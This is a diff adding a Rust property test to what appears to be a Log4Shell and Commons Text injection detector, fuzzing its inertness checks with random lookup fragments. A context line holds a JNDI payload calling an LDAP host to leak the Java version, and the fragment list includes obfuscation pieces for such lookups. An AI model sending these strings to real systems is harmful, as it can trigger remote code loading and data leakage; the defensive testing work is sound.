@@ -182,3 +182,70 @@ fn jvm_dependent_values_are_placeholders() {
     let got = attempts(&format!("${{{JNDI}:ldap://198.51.100.7/${{sys:java.version:-x}}${{sys:nope:-y}}}}"));
     assert_eq!(got[0].jndi, ["ldap://198.51.100.7/<sys:java.version>y"]);
 }
+
+/// The cheap inertness proofs on random text built from lookup syntax: whatever they judge inert
+/// makes no JNDI call and no Commons Text action, in any mode (the JVM oracle tests check the
+/// same against the real libraries on their payloads).
+#[test]
+fn inertness_proofs_hold_on_random_text() {
+    use quell_hunt::{Evaluator, TextEvaluator, TextVersion};
+    const PIECES: &[&str] = &[
+        "${",
+        "}",
+        "$",
+        ":",
+        ":-",
+        "\\-",
+        "lower:",
+        "upper:",
+        "env:",
+        "sys:",
+        "date:'",
+        "'",
+        "base64:",
+        "x",
+        "j",
+        "ndi",
+        "JNDI",
+        " ",
+        "script",
+        "dns",
+        "url",
+        "file",
+        "base64Decoder:",
+        "urlDecoder:",
+        "const:",
+        "JHtqbmRpOng",
+        "%24%7B",
+        "ldap://h/",
+        "a",
+        "${::-",
+        "$${",
+        "jndi:",
+    ];
+    let ev = Evaluator::default();
+    let tv = TextEvaluator::default();
+    let mut r = Rng(0x01e7_7000);
+    let (mut inert, mut wrong) = (0, Vec::new());
+    for _ in 0..20_000 {
+        let text: String = (0..1 + r.below(24)).map(|_| *r.pick(PIECES)).collect();
+        if ev.is_inert_anywhere(text.as_bytes()) && !ev.is_inert(&text) {
+            wrong.push(format!("inert anywhere, not inert: {text:?}"));
+        }
+        if ev.is_inert(&text) {
+            inert += 1;
+            if !ev.message(&text).all_names().is_empty() || !ev.lenient(&text).names.is_empty() {
+                wrong.push(format!("log4j inert, but calls JNDI: {text:?}"));
+            }
+        }
+        if tv.is_inert(text.as_bytes()) {
+            let acts =
+                [tv.evaluate(&text, TextVersion::V1_9), tv.evaluate(&text, TextVersion::V1_10), tv.lenient(&text)];
+            if acts.iter().any(|e| !e.events.is_empty()) {
+                wrong.push(format!("commons text inert, but acts: {text:?}"));
+            }
+        }
+    }
+    assert!(inert > 1_000, "the generator should often produce inert text ({inert})");
+    assert!(wrong.is_empty(), "{} wrong, e.g.:\n{}", wrong.len(), wrong[..wrong.len().min(10)].join("\n"));
+}
